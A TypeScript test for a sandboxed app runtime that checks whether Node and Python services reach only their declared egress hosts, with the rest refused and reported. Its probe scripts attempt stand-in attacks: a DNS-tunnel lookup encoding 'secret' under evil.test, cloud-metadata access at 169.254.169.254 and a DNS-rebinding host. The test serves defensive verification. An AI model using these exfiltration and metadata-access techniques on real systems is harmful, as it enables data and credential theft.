/** What real programs reach outside the app: only what was declared, by name, and the rest is refused at once and told. */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { getServers } from 'node:dns'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { suite, test } from 'node:test'
import type { Status } from '../src/operator/index.ts'
import { eventually, Workbench } from './command-line.ts'
import { needsAll, needsFile, needsRoot } from './needs.ts'
import { createOutsideWorld, worldPort } from './outside-world.ts'

const skip = needsAll(
  needsRoot(),
  needsFile('/usr/bin/bwrap', 'apt-get install bubblewrap'),
  needsFile('/usr/bin/python3', 'apt-get install python3'),
  needsFile('/sbin/ip', 'apt-get install iproute2'),
  getServers().every((server) => /^[\d.]+(?::53)?$/.test(server)) ? false : 'needs name servers with IPv4 addresses',
)

const appFile = `
import { app, service } from 'stead'

export default app('caller', () => {
  const egress = ['api.allowed.test:${worldPort}', '*.wide.test:${worldPort}', 'rebind.allowed.test:${worldPort}', 'lan.allowed.test:${worldPort}', '10.20.0.0/28:${worldPort}']
  const node = service('node', { from: './node', run: ['node', 'probe.js'], egress })
  const python = service('python', { from: './python', run: ['python3', 'probe.py'], egress, limits: { network: '2Mbit/s' } })
  const closed = service('closed', { from: './node', run: ['node', 'probe.js'] })
  return { parts: { node, python, closed } }
})
`

const nodeProbe = `
const dns = require('node:dns').promises
const net = require('node:net')
const settle = (work) => work.then(String, (error) => error.cause?.code ?? error.code ?? String(error))
const get = (url) => settle(fetch(url).then((answer) => answer.text()))
const name = (host) => settle(dns.lookup(host).then(({ address }) => address))
const dial = (host, port) => settle(new Promise((resolve, reject) => {
  const socket = net.connect(port, host, () => { socket.destroy(); resolve('connected') })
  socket.setTimeout(20_000, () => reject(new Error('timeout')))
  socket.on('error', reject)
}))
;(async () => {
  const report = {
    allowed: await get('http://api.allowed.test:${worldPort}/'),
    wide: await get('http://deep.er.wide.test:${worldPort}/'),
    lan: await get('http://lan.allowed.test:${worldPort}/'),
    literal: await get('http://10.20.0.1:${worldPort}/'),
    otherPort: await dial('api.allowed.test', 443),
    otherName: await get('http://evil.test:${worldPort}/'),
    itself: await name(require('node:os').hostname()),
    tunnel: await name('c2VjcmV0.tunnel.evil.test'),
    rebind: await get('http://rebind.allowed.test:${worldPort}/'),
    metadata: await dial('169.254.169.254', ${worldPort}),
    address: await dial('203.0.113.66', ${worldPort}),
    platform: await dial('198.51.100.2', 22),
    six: await dial('2001:db8::1', 443),
  }
  console.log('RESULT ' + JSON.stringify(report))
  setInterval(() => {}, 1000)
})()
`

const pythonProbe = `
import json, socket, time, urllib.request

def settle(work):
    try:
        return work()
    except Exception as error:
        return str(getattr(error, 'reason', error))

def get(url):
    return settle(lambda: urllib.request.urlopen(url, timeout=20).read().decode())

def dial(host, port):
    def work():
        socket.create_connection((host, port), 20).close()
        return 'connected'
    return settle(work)

print('RESULT ' + json.dumps({
    'allowed': get('http://api.allowed.test:${worldPort}/'),
    'wide': get('http://deep.er.wide.test:${worldPort}/'),
    'lan': get('http://lan.allowed.test:${worldPort}/'),
    'literal': get('http://10.20.0.1:${worldPort}/'),
    'otherPort': dial('api.allowed.test', 443),
    'otherName': get('http://evil.test:${worldPort}/'),
    'itself': settle(lambda: socket.gethostbyname(socket.gethostname())),
    'tunnel': settle(lambda: socket.getaddrinfo('c2VjcmV0.tunnel.evil.test', 80)),
    'rebind': get('http://rebind.allowed.test:${worldPort}/'),
    'metadata': dial('169.254.169.254', ${worldPort}),
    'address': dial('203.0.113.66', ${worldPort}),
    'platform': dial('198.51.100.2', 22),
    'six': dial('2001:db8::1', 443),
}), flush=True)
while True:
    time.sleep(60)
`

const zone = {
  'api.allowed.test': ['203.0.113.10'],
  'deep.er.wide.test': ['203.0.113.11'],
  'evil.test': ['203.0.113.66'],
  'rebind.allowed.test': ['169.254.169.254'],
  'lan.allowed.test': ['10.20.0.1'],
}
const addresses = ['203.0.113.10', '203.0.113.11', '203.0.113.66', '169.254.169.254', '10.20.0.1']

suite('egress of parts', { skip }, () => {
  test('programs of Node and Python reach what was declared; the rest is refused, seen and explained', async () => {
    await using world = await createOutsideWorld(addresses, zone)
    await using bench = new Workbench()
    bench.write({ 'app.ts': appFile, 'node/probe.js': nodeProbe, 'python/probe.py': pythonProbe })
    const nodeFile = join(bench.dir, 's', 'node.json')
    mkdirSync(join(nodeFile, '..'))
    writeFileSync(nodeFile, JSON.stringify({ network: '100Mbit/s' }))
    const running = world.enter(() => bench.up('--port', '0'))
    await running.until(/caller runs, after/)

    const reports = await eventually(
      'a report of each part',
      async () => {
        const { stdout } = await bench.stead('logs', '.', '--json')
        const lines = stdout.split('\n').filter((line) => line.includes('RESULT '))
        return new Map(
          lines.map((line) => {
            const { assignment, text } = JSON.parse(line) as { assignment: string; text: string }
            return [assignment.split('.')[1], JSON.parse(text.slice(7)) as Record<string, string>]
          }),
        )
      },
      (found) => found.size === 3,
      60_000,
    )

    const noName = /ENOTFOUND|Name or service not known|No address associated/
    const refused = /ECONNREFUSED|Connection refused/
    for (const part of ['node', 'python']) {
      const report = reports.get(part) ?? {}
      assert.equal(report['allowed'], 'served by 203.0.113.10', part)
      assert.equal(report['wide'], 'served by 203.0.113.11', part)
      assert.equal(report['lan'], 'served by 10.20.0.1', part)
      assert.equal(report['literal'], 'served by 10.20.0.1', part)
      assert.equal(report['itself'], '10.64.0.1', part)
      for (const what of ['otherName', 'tunnel', 'rebind']) assert.match(report[what] ?? '', noName, `${part} ${what}`)
      for (const what of ['otherPort', 'address', 'platform', 'metadata'])
        assert.match(report[what] ?? '', refused, `${part} ${what}`)
      assert.match(report['six'] ?? '', /ENETUNREACH|unreachable/i, part)
    }
    const closed = reports.get('closed') ?? {}
    for (const what of ['allowed', 'wide', 'lan', 'otherName', 'tunnel', 'rebind'])
      assert.match(closed[what] ?? '', noName, what)
    for (const what of ['literal', 'metadata', 'address', 'platform']) assert.match(closed[what] ?? '', refused, what)

    // Nothing but what was declared has left, neither as a stream nor as a question.
    assert.deepEqual([...new Set(world.reached)].sort(), ['10.20.0.1', '203.0.113.10', '203.0.113.11'])
    const questions = ['api.allowed.test', 'deep.er.wide.test', 'lan.allowed.test', 'rebind.allowed.test']
    assert.deepEqual([...new Set(world.asked)].sort(), questions)

    // What the agent has seen travels with its next report.
    const status = async (): Promise<Status> =>
      JSON.parse((await bench.stead('status', '.', '--json')).stdout) as Status
    const refusedOf = ({ parts }: Status, name: string): string[] =>
      parts.find(({ part }) => part === name)?.refused.map(({ what }) => what) ?? []
    await eventually(
      'the refusals in the status',
      status,
      (found) =>
        refusedOf(found, 'node').includes('evil.test') &&
        ['203.0.113.66:8080', 'api.allowed.test:443'].every((what) => refusedOf(found, 'python').includes(what)),
    )
    const { stdout: shown } = await bench.stead('status', '.')
    assert.match(
      shown,
      /refused node looked up evil\.test: not in its egress \((?:at|\d+ times, last) \d\d:\d\d:\d\d\)/,
    )
    assert.match(shown, /add to node in the app file: egress: \['evil\.test:443'\]/)
    // A guaranteed rate, and the share of what is left; what may dial nothing has none. Both follow what the owner says.
    const { parts } = await status()
    const rateOf = (name: string): string => {
      const pid = parts.find(({ part }) => part === name)?.pid ?? 0
      const words = [`--net=/proc/${pid}/ns/net`, 'tc', 'qdisc', 'show', 'dev', 'outside']
      return /tbf .*rate (\S+)/.exec(spawnSync('nsenter', words, { encoding: 'utf8' }).stdout)?.[1] ?? 'none'
    }
    const ratesOf = async (): Promise<string[]> => ['python', 'node', 'closed'].map(rateOf)
    assert.deepEqual(await ratesOf(), ['2Mbit', '98Mbit', 'none'])
    writeFileSync(nodeFile, JSON.stringify({ network: '50Mbit/s' }))
    await eventually('another share', ratesOf, ([own, share]) => own === '2Mbit' && share === '48Mbit')
    writeFileSync(nodeFile, '{}')
    await eventually('no bound', ratesOf, ([own, share]) => own === '2Mbit' && share === 'none')

    const { stdout: logs } = await bench.stead('logs', 'closed', '.')
    assert.match(logs, /stead: closed looked up api\.allowed\.test: not in its egress \(if closed is to reach it, add/)
  })
})
